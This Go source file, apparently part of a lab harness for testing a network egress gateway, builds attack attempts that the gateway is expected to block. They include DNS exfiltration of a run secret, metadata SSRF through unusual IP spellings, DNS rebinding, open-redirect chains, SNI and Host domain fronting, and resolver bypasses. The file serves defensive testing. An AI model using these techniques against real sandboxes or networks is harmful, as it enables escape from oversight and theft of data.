@@ -1,0 +1,540 @@
+package attack
+
+import (
+	"context"
+	"crypto/tls"
+	"net"
+	"net/netip"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+	"golang.org/x/net/idna"
+
+	"github.com/nsgate/nsgate/lab/internet"
+)
+
+// Constructors for the catalogue's attempts. Each builds one Attempt with
+// its run function; the catalogue (catalogue.go) only lists them.
+
+// auditFor is the audit expectation of a blocked network attempt stopped
+// at layer: the gateway records what it refuses; what never reaches it
+// leaves no record.
+func auditFor(layer string) AuditWant {
+	switch layer {
+	case LayerNetns, LayerCaps, LayerExecGuard:
+		return AuditNone
+	}
+	return AuditDeny
+}
+
+// addrKey is the aggregation key of a flow to host:port (IPv4-mapped
+// addresses unmapped, as the kernel sends them).
+func addrKey(host string, port uint16) string {
+	if a, err := netip.ParseAddr(host); err == nil {
+		return netip.AddrPortFrom(a.Unmap().WithZone(""), port).String()
+	}
+	return host + ":" + strconv.Itoa(int(port))
+}
+
+func control(id, desc, u, target string, verify bool) Attempt {
+	return Attempt{
+		ID: id, Category: "control", Layer: LayerControl, Description: desc,
+		Expect: Allowed, Audit: AuditAllow, Aims: []string{target},
+		run: func(ctx context.Context, a *attacker) result {
+			f := a.fetch(ctx, u, fetchOpts{follow: true, verify: verify})
+			switch {
+			case f.err != nil:
+				return blockedf("%v", f.err)
+			case f.status != 200 || f.target != target:
+				return blockedf("%s, want HTTP 200 from %q", f.describe(), target)
+			}
+			return allowedf("%s: %q", f.describe(), f.body)
+		},
+	}
+}
+
+// httpAttack is the common run function: GET u (Host header host when
+// set); any response is the attack getting through.
+func httpAttack(u, host, note string) func(context.Context, *attacker) result {
+	return func(ctx context.Context, a *attacker) result {
+		f := a.fetch(ctx, u, fetchOpts{host: host})
+		if f.err != nil {
+			if !isRefusal(f.err) {
+				return erroredf("%s%v", note, f.err)
+			}
+			return blockedf("%s%v", note, f.err)
+		}
+		return allowedf("%s%s: %q", note, f.describe(), f.body)
+	}
+}
+
+// connectHTTP is a GET to an address literal.
+func connectHTTP(id, cat, layer, rule, desc, host string, port uint16, aim string) Attempt {
+	return Attempt{
+		ID: id, Category: cat, Layer: layer, Description: desc,
+		Expect: Blocked, Audit: auditFor(layer), Rule: rule, Aims: []string{aim},
+		Keys: []string{addrKey(host, port)},
+		run:  httpAttack("http://"+urlHost(host, port)+"/", "", ""),
+	}
+}
+
+// nameHTTP is a GET to a name, resolved through the gateway.
+func nameHTTP(id, cat, layer, rule, desc, name string, port uint16, aim string) Attempt {
+	return Attempt{
+		ID: id, Category: cat, Layer: layer, Description: desc,
+		Expect: Blocked, Audit: auditFor(layer), Rule: rule, Aims: []string{aim},
+		Keys: []string{"dns:" + strings.ToLower(name), strings.ToLower(name) + ":" + strconv.Itoa(int(port))},
+		run:  httpAttack("http://"+urlHost(name, port)+"/", "", ""),
+	}
+}
+
+// spelledHTTP reads spelling as inet_aton does, then GETs the address it
+// names with the spelling as Host, as curl would.
+func spelledHTTP(id, spelling, desc string, port uint16) Attempt {
+	addr, ok := ParseInetAton(spelling)
+	at := Attempt{
+		ID: id, Category: "ip-literal", Layer: LayerMetadata, Rule: "builtin:metadata",
+		Description: "GET http://" + urlHost(spelling, port) + "/: " + desc,
+		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"metadata"},
+	}
+	if !ok {
+		at.run = func(context.Context, *attacker) result { return erroredf("%q is not an inet_aton address", spelling) }
+		return at
+	}
+	at.Keys = []string{addrKey(addr.String(), port)}
+	at.run = httpAttack("http://"+urlHost(addr.String(), port)+"/", urlHost(spelling, port), spelling+" = "+addr.String()+": ")
+	return at
+}
+
+// spelledLocal is spelledHTTP for a loopback spelling (the worker's own
+// lo).
+func spelledLocal(id, spelling string, port uint16) Attempt {
+	addr, _ := ParseInetAton(spelling)
+	return Attempt{
+		ID: id, Category: "local", Layer: LayerNetns,
+		Description: "GET http://" + urlHost(spelling, port) + "/ (inet_aton reads " + addr.String() + ")",
+		Expect:      Blocked, Audit: AuditNone, Aims: []string{"loopback"},
+		run: httpAttack("http://"+urlHost(addr.String(), port)+"/", urlHost(spelling, port), spelling+" = "+addr.String()+": "),
+	}
+}
+
+// overflowHTTP takes a decimal number past 32 bits modulo 2^32, as some
+// URL parsers do.
+func overflowHTTP(id, spelling string, port uint16) Attempt {
+	n, _ := strconv.ParseUint(spelling, 10, 64)
+	u := uint32(n)
+	addr := netip.AddrFrom4([4]byte{byte(u >> 24), byte(u >> 16), byte(u >> 8), byte(u)})
+	return Attempt{
+		ID: id, Category: "ip-literal", Layer: LayerMetadata, Rule: "builtin:metadata",
+		Description: "GET http://" + spelling + "/: a decimal past 32 bits, taken modulo 2^32 (" + addr.String() + ")",
+		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"metadata"},
+		Keys: []string{addrKey(addr.String(), port)},
+		run:  httpAttack("http://"+urlHost(addr.String(), port)+"/", spelling, spelling+" mod 2^32 = "+addr.String()+": "),
+	}
+}
+
+// dnsQuery asks the gateway's resolver for name; any answer of the asked
+// type is the attack getting through.
+func dnsQuery(id, cat, layer, rule, desc, name string, qtype dnsmessage.Type, transport string) Attempt {
+	at := Attempt{
+		ID: id, Category: cat, Layer: layer, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Rule: rule,
+		Keys: []string{"dns:" + strings.ToLower(name)},
+	}
+	if qtype != dnsmessage.TypeA && qtype != dnsmessage.TypeAAAA {
+		// Other types of an approved name: an empty answer, recorded
+		// as allowed; nothing to require of the log.
+		at.Audit = AuditNone
+	}
+	at.run = func(ctx context.Context, a *attacker) result {
+		return a.dnsAttack(ctx, a.cfg.DNSServer, transport, name, qtype)
+	}
+	return at
+}
+
+func (a *attacker) dnsAttack(ctx context.Context, server, transport, name string, qtype dnsmessage.Type) result {
+	ans, err := a.dnsExchange(ctx, server, transport, name, qtype)
+	if err != nil {
+		if isRefusal(err) {
+			return blockedf("%s %s over %s to %s: %v", internet.TypeName(qtype), name, transport, server, err)
+		}
+		return erroredf("%s %s: %v", internet.TypeName(qtype), name, err)
+	}
+	if len(ans.answers) > 0 {
+		return allowedf("%s %s: %s", internet.TypeName(qtype), name, ans)
+	}
+	return blockedf("%s %s: %s", internet.TypeName(qtype), name, ans)
+}
+
+// dnsExfil asks for a name carrying the run's secret below the exfil zone.
+func dnsExfil(id, desc string, qtype dnsmessage.Type, transport string) Attempt {
+	return Attempt{
+		ID: id, Category: "dns", Layer: LayerDNS, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetExfil},
+		Keys: []string{"dns:*." + internet.ExfilZone},
+		run: func(ctx context.Context, a *attacker) result {
+			name := a.secret + "-" + id + "." + internet.ExfilZone
+			return a.dnsAttack(ctx, a.cfg.DNSServer, transport, name, qtype)
+		},
+	}
+}
+
+// dnsPunycode asks for the punycode form of the homograph.
+func dnsPunycode() Attempt {
+	name, err := idna.Punycode.ToASCII("\u0430pp.test")
+	at := Attempt{
+		ID: "dns-idn-punycode", Category: "dns", Layer: LayerDNS,
+		Description: "A " + name + " (punycode of \u0430pp.test with a Cyrillic a): not app.test",
+		Expect:      Blocked, Audit: AuditDeny, Keys: []string{"dns:" + name},
+	}
+	at.run = func(ctx context.Context, a *attacker) result {
+		if err != nil {
+			return erroredf("punycode: %v", err)
+		}
+		return a.dnsAttack(ctx, a.cfg.DNSServer, "udp", name, dnsmessage.TypeA)
+	}
+	return at
+}
+
+// directDNS queries the public resolver directly, bypassing the gateway's.
+func directDNS(id, transport string) Attempt {
+	server := internet.ResolverV4 + ":53"
+	return Attempt{
+		ID: id, Category: "dns", Layer: LayerPolicy, Rule: "default",
+		Description: "A app.test straight to the public resolver " + server + " over " + transport,
+		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"resolver"},
+		Keys: []string{udpKey(server, transport)},
+		run: func(ctx context.Context, a *attacker) result {
+			ans, err := a.dnsExchange(ctx, server, transport, internet.AppName, dnsmessage.TypeA)
+			if err != nil {
+				if isRefusal(err) {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			return allowedf("the resolver answered: %s", ans)
+		},
+	}
+}
+
+// udpKey is the key of a flow to addr over transport.
+func udpKey(addr, transport string) string {
+	if transport == "udp" {
+		return addr + "/udp"
+	}
+	return addr
+}
+
+// dotAttempt opens DNS over TLS to ip:853.
+func dotAttempt(id, layer, rule, desc, ip string) Attempt {
+	return Attempt{
+		ID: id, Category: "dns", Layer: layer, Rule: rule, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{"resolver"},
+		Keys: []string{addrKey(ip, 853)},
+		run: func(ctx context.Context, a *attacker) result {
+			b, err := a.banner(ctx, "tcp", hostPort(ip, 853), &tls.Config{InsecureSkipVerify: true})
+			if err != nil {
+				if isRefusal(err) {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			return allowedf("TLS session with %s: %q", ip, b)
+		},
+	}
+}
+
+// rebindAttempt connects to rebind.ok.test three times, far enough apart
+// for its TTL-0 answer to expire from the gateway's cache, hoping to reach
+// the loopback address it rebinds to.
+func rebindAttempt() Attempt {
+	u := "http://" + internet.RebindName + ":8080/"
+	return Attempt{
+		ID: "dns-rebind", Category: "dns", Layer: LayerResolve,
+		Description: "rebind.ok.test (TTL 0) answers 203.0.113.12, then 127.0.0.1; three connections 1.3 s apart",
+		Expect:      Blocked, Audit: AuditNone, Aims: []string{"loopback"},
+		Keys: []string{internet.RebindName + ":8080"},
+		run: func(ctx context.Context, a *attacker) result {
+			var seen []string
+			for i := 0; i < 3; i++ {
+				if i > 0 {
+					select {
+					case <-ctx.Done():
+						return erroredf("interrupted after %v", seen)
+					case <-time.After(1300 * time.Millisecond):
+					}
+				}
+				f := a.fetch(ctx, u, fetchOpts{})
+				switch {
+				case f.err != nil && i == 0:
+					return erroredf("precondition: the first connection (before rebinding) failed: %v", f.err)
+				case f.err != nil:
+					seen = append(seen, "refused ("+oneLine(f.err.Error())+")")
+				case f.target == "loopback":
+					return allowedf("connection %d reached the host's loopback: %q", i+1, f.body)
+				default:
+					seen = append(seen, f.target)
+				}
+			}
+			return blockedf("connections reached: %s", strings.Join(seen, "; "))
+		},
+	}
+}
+
+// answerHTTP GETs name:8080, a name whose upstream answer is internal;
+// reaching aim is the attack getting through.
+func answerHTTP(id, layer, rule string, audit AuditWant, desc, name, aim string) Attempt {
+	return Attempt{
+		ID: id, Category: "dns", Layer: layer, Rule: rule, Description: desc,
+		Expect: Blocked, Audit: audit, Aims: []string{aim},
+		Keys: []string{name + ":8080"},
+		run: func(ctx context.Context, a *attacker) result {
+			f := a.fetch(ctx, "http://"+name+":8080/", fetchOpts{})
+			switch {
+			case f.err != nil && isRefusal(f.err):
+				return blockedf("%v", f.err)
+			case f.err != nil:
+				return erroredf("%v", f.err)
+			case f.target == aim || !slices.Contains(internet.PolicyApproved(), f.target):
+				return allowedf("%s: %q", f.describe(), f.body)
+			}
+			return blockedf("reached only an approved answer: %s", f.describe())
+		},
+	}
+}
+
+// redirect starts at the approved app's open redirect towards to.
+func redirect(id, layer, rule, start, to, aim string, cooldown []string) Attempt {
+	u := start + "redirect?to=" + url.QueryEscape(to)
+	verify := strings.HasPrefix(start, "https:")
+	return Attempt{
+		ID: id, Category: "redirect", Layer: layer, Rule: rule,
+		Description: "GET " + start + "redirect answers 302 to " + to,
+		Expect:      Blocked, Audit: auditFor(layer), Aims: []string{aim},
+		Keys: cooldown,
+		run: func(ctx context.Context, a *attacker) result {
+			f := a.fetch(ctx, u, fetchOpts{follow: true, verify: verify})
+			switch {
+			case len(f.hops) == 0 && f.err != nil:
+				return erroredf("precondition: the approved app did not answer: %v", f.err)
+			case len(f.hops) == 0:
+				return erroredf("precondition: the approved app did not redirect: %s", f.describe())
+			case f.err != nil && isRefusal(f.err):
+				return blockedf("followed %d redirect(s), then: %v", len(f.hops), f.err)
+			case f.err != nil:
+				return erroredf("followed %d redirect(s), then: %v", len(f.hops), f.err)
+			case f.target == "app":
+				return erroredf("the redirect chain ended at the app itself: %s", f.describe())
+			}
+			return allowedf("%s: %q", f.describe(), f.body)
+		},
+	}
+}
+
+// l7TLS opens TLS to app.test:443 (a name flow) with SNI sni.
+func l7TLS(id, desc, sni string) Attempt {
+	return Attempt{
+		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetFronted},
+		run: func(ctx context.Context, a *attacker) result {
+			if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
+				return erroredf("precondition: resolve %s: %v", internet.AppName, err)
+			}
+			host := sni
+			if host == "" {
+				host = internet.AppName
+			}
+			f := a.rawHTTP(ctx, hostPort(internet.AppName, 443), &tls.Config{ServerName: sni, InsecureSkipVerify: true},
+				"GET / HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
+			switch {
+			case f.err != nil:
+				return blockedf("%v", f.err)
+			case sni == "" || f.target == internet.TargetFronted:
+				return allowedf("%s: %q", f.describe(), f.body)
+			}
+			return blockedf("the server did not serve the other name: %s", f.describe())
+		},
+	}
+}
+
+// l7HTTP sends a raw request to app.test:80 (a name flow).
+func l7HTTP(id, desc, req string) Attempt {
+	return Attempt{
+		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetFronted},
+		run: func(ctx context.Context, a *attacker) result {
+			if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
+				return erroredf("precondition: resolve %s: %v", internet.AppName, err)
+			}
+			f := a.rawHTTP(ctx, hostPort(internet.AppName, 80), nil, req)
+			switch {
+			case f.err != nil:
+				return blockedf("%v", f.err)
+			case f.target == internet.TargetFronted:
+				return allowedf("%s: %q", f.describe(), f.body)
+			}
+			return blockedf("the server did not serve the other name: %s", f.describe())
+		},
+	}
+}
+
+// bannerTCP connects to name:port and waits for the server's greeting.
+func bannerTCP(id, desc, name string, port uint16) Attempt {
+	return Attempt{
+		ID: id, Category: "port", Layer: LayerPolicy, Rule: "default", Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{"app-port"},
+		Keys: []string{name + ":" + strconv.Itoa(int(port))},
+		run: func(ctx context.Context, a *attacker) result {
+			b, err := a.banner(ctx, "tcp", hostPort(name, port), nil)
+			if err != nil {
+				if isRefusal(err) {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			return allowedf("greeting %q", b)
+		},
+	}
+}
+
+// udpProbe sends a protocol-shaped datagram and waits for an echo.
+func udpProbe(id, layer, rule, desc, host string, port uint16, aim string) Attempt {
+	payload := []byte("nsgate-lab udp probe")
+	switch port {
+	case 443: // a QUIC v1 long-header Initial (not a valid one: the gateway must not care)
+		payload = append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0}, make([]byte, 1185)...)
+	case 3478: // STUN binding request with the magic cookie
+		payload = []byte{0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}
+	case 123: // NTP v4 client request
+		payload = append([]byte{0x23}, make([]byte, 47)...)
+	}
+	return Attempt{
+		ID: id, Category: "udp", Layer: layer, Rule: rule, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, Aims: []string{aim},
+		Keys: []string{addrKey(host, port) + "/udp", "packet:" + host},
+		run: func(ctx context.Context, a *attacker) result {
+			reply, err := a.udpExchange(ctx, hostPort(host, port), payload)
+			if err != nil {
+				if isRefusal(err) || strings.Contains(err.Error(), "no reply") {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			return allowedf("%d-byte reply", len(reply))
+		},
+	}
+}
+
+// mptcpAttempt connects with MPTCP (a separate IP protocol number on the
+// socket, plain TCP with options on the wire).
+func mptcpAttempt() Attempt {
+	addr := hostPort(internet.OtherV4, 8080)
+	return Attempt{
+		ID: "mptcp-unapproved", Category: "unapproved", Layer: LayerPolicy, Rule: "default",
+		Description: "GET http://198.51.100.20:8080/ over an MPTCP socket",
+		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"unapproved"},
+		Keys: []string{addr},
+		run: func(ctx context.Context, a *attacker) result {
+			d := a.dialer()
+			d.SetMultipathTCP(true)
+			c, err := d.DialContext(ctx, "tcp", addr)
+			if err != nil {
+				if isRefusal(err) {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			defer c.Close()
+			c.SetDeadline(time.Now().Add(a.cfg.Timeout))
+			if _, err := c.Write([]byte("GET / HTTP/1.0\r\nHost: " + internet.OtherV4 + "\r\n\r\n")); err != nil {
+				return blockedf("%v", err)
+			}
+			buf := make([]byte, 512)
+			n, err := c.Read(buf)
+			if n > 0 {
+				return allowedf("%q", strings.SplitN(string(buf[:n]), "\r\n", 2)[0])
+			}
+			return blockedf("connected, then %v", err)
+		},
+	}
+}
+
+// unixAttempt connects to the host-side unix socket (pathname or
+// abstract).
+func unixAttempt(id, layer, desc string, abstract bool) Attempt {
+	aim := internet.TargetUnix
+	if abstract {
+		aim = internet.TargetUnixAbstract
+	}
+	return Attempt{
+		ID: id, Category: "unix", Layer: layer, Description: desc,
+		Expect: Blocked, Audit: AuditNone, Aims: []string{aim},
+		run: func(ctx context.Context, a *attacker) result {
+			path := a.cfg.UnixPath
+			if abstract {
+				path = a.cfg.Abstract
+			}
+			if path == "" {
+				return erroredf("no socket given to the attacker")
+			}
+			b, err := a.banner(ctx, "unix", path, nil)
+			if err != nil {
+				if isRefusal(err) || errnoOf(err) == 0 && strings.Contains(err.Error(), "refused") {
+					return blockedf("%v", err)
+				}
+				return erroredf("%v", err)
+			}
+			return allowedf("%s said %q", path, b)
+		},
+	}
+}
+
+func execAttempt(id, desc string, f func(context.Context, *attacker) result) Attempt {
+	return Attempt{
+		ID: id, Category: "exec", Layer: LayerExecGuard, Description: desc,
+		Expect: Blocked, Audit: AuditDeny, run: f,
+	}
+}
+
+func nsAttempt(id, layer, desc string, f func(context.Context, *attacker) result) Attempt {
+	return Attempt{
+		ID: id, Category: "namespace", Layer: layer, Description: desc,
+		Expect: Blocked, Audit: AuditNone, run: f,
+	}
+}
+
+// socketKind names a socket the attacker tries to create.
+type socketKind uint8
+
+const (
+	sockRawIP socketKind = iota + 1
+	sockPacket
+	sockVsock
+)
+
+func socketAttempt(id, cat, layer, desc string, kind socketKind) Attempt {
+	return Attempt{
+		ID: id, Category: cat, Layer: layer, Description: desc,
+		Expect: Blocked, Audit: AuditNone,
+		run: func(ctx context.Context, a *attacker) result { return a.socket(kind) },
+	}
+}
+
+func icmpAttempt(id, desc string, raw bool) Attempt {
+	return Attempt{
+		ID: id, Category: "icmp-raw", Layer: LayerCaps, Description: desc,
+		Expect: Blocked, Audit: AuditNone,
+		run: func(ctx context.Context, a *attacker) result { return a.ping(ctx, internet.AppV4, raw) },
+	}
+}
+
+// homographPunycode is the punycode form the gateway normalizes the
+// homograph to (both attempts share its key).
+func homographPunycode() string {
+	n, _ := idna.Punycode.ToASCII("\u0430pp.test")
+	return n
+}
